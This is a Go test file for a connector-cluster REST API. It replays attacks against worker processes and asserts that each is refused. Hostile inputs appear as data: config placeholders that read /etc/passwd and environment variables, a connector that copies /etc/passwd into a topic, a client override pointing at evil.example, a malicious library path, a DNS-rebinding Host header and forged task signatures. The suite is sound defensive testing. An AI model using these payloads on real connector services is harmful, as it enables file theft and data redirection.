package main

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/sluicehq/sluice/internal/sluicetest"
	"github.com/sluicehq/sluice/runtime"
)

// The security suite (issue 17): an attacker on the network replays each attack against real
// worker processes with the settings a user starts with, and each is refused with the right
// status while nothing secret reaches an answer or a log.

// attack is one request an attacker sends.
type attack struct {
	name         string
	method, path string
	body         string
	headers      []string // name, value pairs; "Host" sets the request's host
	want         int
}

// send makes the attack's request against base and returns the status and body.
func (a attack) send(t *testing.T, base string) (int, string) {
	t.Helper()
	var body io.Reader
	if a.body != "" {
		body = strings.NewReader(a.body)
	}
	req, err := http.NewRequest(a.method, base+a.path, body)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(a.headers); i += 2 {
		if a.headers[i] == "Host" {
			req.Host = a.headers[i+1]
		} else {
			req.Header.Set(a.headers[i], a.headers[i+1])
		}
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestAttacksOnWorkersWithDefaultSettingsAreRefused(t *testing.T) {
	c := sluicetest.NewCluster(t)
	ws := []*sluicetest.Process{c.StartProcess(nil), c.StartProcess(nil)}
	topic := c.Prefix + "-data"
	name := c.Prefix + "-gen"
	sluicetest.CreateConnector(t, ws[0].URL, name, map[string]string{"connector.class": "datagen", "kafka.topic": topic, "rate": "1",
		"tasks.max": "2", "topic.creation.default.partitions": "1", "topic.creation.default.replication.factor": "-1"})
	sluicetest.WaitState(t, ws[0].URL, name, runtime.StateRunning, 2)
	var before []map[string]any
	sluicetest.Call(t, "GET", ws[0].URL+"/connectors/"+name+"/tasks", nil, &before)

	evilTasks := `[{"connector.class":"file-source","file":"/etc/passwd","kafka.topic":"stolen"}]`
	forged := base64.StdEncoding.EncodeToString(hmac.New(sha256.New, []byte("guessed")).Sum(nil))
	create := func(cfg string) string { return `{"name":"evil","config":` + cfg + `}` }
	attacks := []attack{
		{"read a file through a placeholder", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t","tasks.max":"${file:/etc/passwd}"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"read a variable through validation", "PUT", "/connector-plugins/datagen/config/validate", `{"connector.class":"datagen","kafka.topic":"t","tasks.max":"${env:HOME}"}`,
			[]string{"Content-Type", "application/json"}, 200},
		{"create from a web page (text/plain)", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t"}`),
			[]string{"Content-Type", "text/plain"}, 415},
		{"create from a web page (cross-origin JSON)", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t"}`),
			[]string{"Content-Type", "application/json", "Origin", "https://evil.example"}, 403},
		{"read configs through DNS rebinding", "GET", "/connectors?expand=info", "", []string{"Host", "evil.example:8083"}, 403},
		{"send the worker's clients elsewhere", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t","producer.override.bootstrap.servers":"evil.example:9092","producer.override.security.protocol":"SASL_PLAINTEXT"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"load a library into the worker", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t","producer.override.plugin.library.paths":"/tmp/evil.so"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"read /etc/passwd into a topic", "POST", "/connectors", create(`{"connector.class":"file-source","file":"/etc/passwd","kafka.topic":"stolen"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"write task configs unsigned", "POST", "/connectors/" + url.PathEscape(name) + "/tasks", evilTasks,
			[]string{"Content-Type", "application/json"}, 400},
		{"write task configs with a forged signature", "POST", "/connectors/" + url.PathEscape(name) + "/tasks", evilTasks,
			[]string{"Content-Type", "application/json", runtime.SignatureHeader, forged, runtime.SignatureAlgorithmHeader, "HmacSHA256"}, 403},
	}
	for _, w := range ws {
		for _, a := range attacks {
			t.Run(a.name, func(t *testing.T) {
				code, body := a.send(t, w.URL)
				if code != a.want {
					t.Fatalf("%s %s on %s answered %d %s, want %d", a.method, a.path, w.URL, code, body, a.want)
				}
				if strings.Contains(body, "root:x:0") || strings.Contains(body, "/bin/bash") {
					t.Errorf("the answer holds the worker's /etc/passwd: %s", body)
				}
				if a.want == 200 { // validation: the errors must speak of the placeholder, not the value
					var v runtime.ConfigInfos
					if err := json.Unmarshal([]byte(body), &v); err != nil || v.ErrorCount == 0 {
						t.Errorf("validation of an unusable placeholder found no error: %s", body)
					}
				}
			})
		}
	}
	var after []map[string]any
	sluicetest.Call(t, "GET", ws[0].URL+"/connectors/"+name+"/tasks", nil, &after)
	if fmt.Sprint(after) != fmt.Sprint(before) {
		t.Errorf("the task configs changed:\nbefore %v\nafter  %v", before, after)
	}
	var list []string
	sluicetest.Call(t, "GET", ws[0].URL+"/connectors", nil, &list)
	if len(list) != 1 {
		t.Errorf("connectors after the attacks: %v", list)
	}
	for _, w := range ws {
		if log := w.Log.String(); strings.Contains(log, "root:x:0") {
			t.Errorf("worker %s logged the worker's /etc/passwd:\n%s", w.URL, log)
		}
	}
}

// TestSignedTaskConfigsReachTheLeader runs connectors on a follower process, whose task
// configurations reach the leader only signed with the session key, and checks each gets its
// tasks; a request with a made-up signature sent through the follower is refused.
func TestSignedTaskConfigsReachTheLeader(t *testing.T) {
	c := sluicetest.NewCluster(t)
	ws := []*sluicetest.Process{c.StartProcess(nil), c.StartProcess(nil)}
	var names []string
	for i := range 4 {
		n := fmt.Sprintf("%s-gen-%d", c.Prefix, i)
		names = append(names, n)
		sluicetest.CreateConnector(t, ws[0].URL, n, map[string]string{"connector.class": "datagen", "kafka.topic": c.Prefix + "-data",
			"rate": "1", "tasks.max": "1", "topic.creation.default.partitions": "1", "topic.creation.default.replication.factor": "-1"})
	}
	runningOnAFollower(t, []string{ws[0].URL, ws[1].URL}, names)
	// A forged body with a signature copied from nowhere: refused whatever worker gets it.
	body := []byte(`[{"connector.class":"datagen","kafka.topic":"x"}]`)
	req, _ := http.NewRequest("POST", ws[1].URL+"/connectors/"+url.PathEscape(names[0])+"/tasks", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(runtime.SignatureHeader, base64.StdEncoding.EncodeToString(make([]byte, 32)))
	req.Header.Set(runtime.SignatureAlgorithmHeader, "HmacSHA256")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("a forged signature through a follower answered %d, want 403", resp.StatusCode)
	}
}
